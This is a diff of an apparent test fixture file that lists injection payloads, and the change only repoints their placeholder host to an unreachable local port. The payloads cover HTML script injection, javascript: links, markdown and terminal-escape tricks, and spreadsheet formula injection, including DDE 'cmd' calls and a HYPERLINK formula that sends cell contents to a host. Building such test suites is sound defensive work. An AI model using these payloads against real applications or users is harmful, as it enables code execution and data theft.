@@ -29,24 +29,24 @@ HTML = [
     f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
     f'<a href="javascript:{_RUN}">x</a>',
     f'<object data="data:text/html,<script>parent.{_RUN}</script>"></object>',
-    "<img src=http://192.0.2.1/x.png>",
+    "<img src=http://127.0.0.1:9/x.png>",
     "<p id=pwned>here</p>",
-    "<style>*{display:none}</style><link rel=stylesheet href=//192.0.2.1/x.css>",
-    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'><base href=//192.0.2.1/>",
+    "<style>*{display:none}</style><link rel=stylesheet href=//127.0.0.1:9/x.css>",
+    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href=//127.0.0.1:9/>",
     f"<!--><script>{_RUN}</script>-->",
     f"]]><script>{_RUN}</script>",
     f"</title></textarea></style></pre><script>{_RUN}</script>",
     f"<details open ontoggle={_RUN}>",
     f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
     "&lt;script&gt;&#x3c;&amp;&nbsp;&#0;",
-    "<form action=http://192.0.2.1/><button>Log in</button></form>",
+    "<form action=http://127.0.0.1:9/><button>Log in</button></form>",
 ]
 MARKDOWN = [
     f"[here](javascript:{_RUN})",
-    "![x](http://192.0.2.1/x.png)",
+    "![x](http://127.0.0.1:9/x.png)",
     f"<{_RUN}>: # heading\n\n* item\n\n```\ncode",
     "|a|b|\n|-|-|\n|c|d|",
-    "[bold red]rich[/bold red] [/nothing] [link=http://192.0.2.1/]x[/link] :smile:",
+    "[bold red]rich[/bold red] [/nothing] [link=http://127.0.0.1:9/]x[/link] :smile:",
 ]
 MATHS = [
     r"$\href{javascript:alert(1)}{x}$",
@@ -58,7 +58,7 @@ MATHS = [
 FORMULAS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
+    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -75,7 +75,7 @@ FORMULAS = [
 CONTROLS = [
     "\x1b[2J\x1b[1;1Hgone",
     "\x1b]0;pwned\x07title",
-    "\x1b]8;;http://192.0.2.1/\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]8;;http://127.0.0.1:9/\x1b\\link\x1b]8;;\x1b\\",
     "\x1b[31mred\x1b[0m",
     "\x9b31mC1\x9b0m \x85 \x90q\x9c",
     "a\bb\x7f\x01\x1f\x0b\x0c",
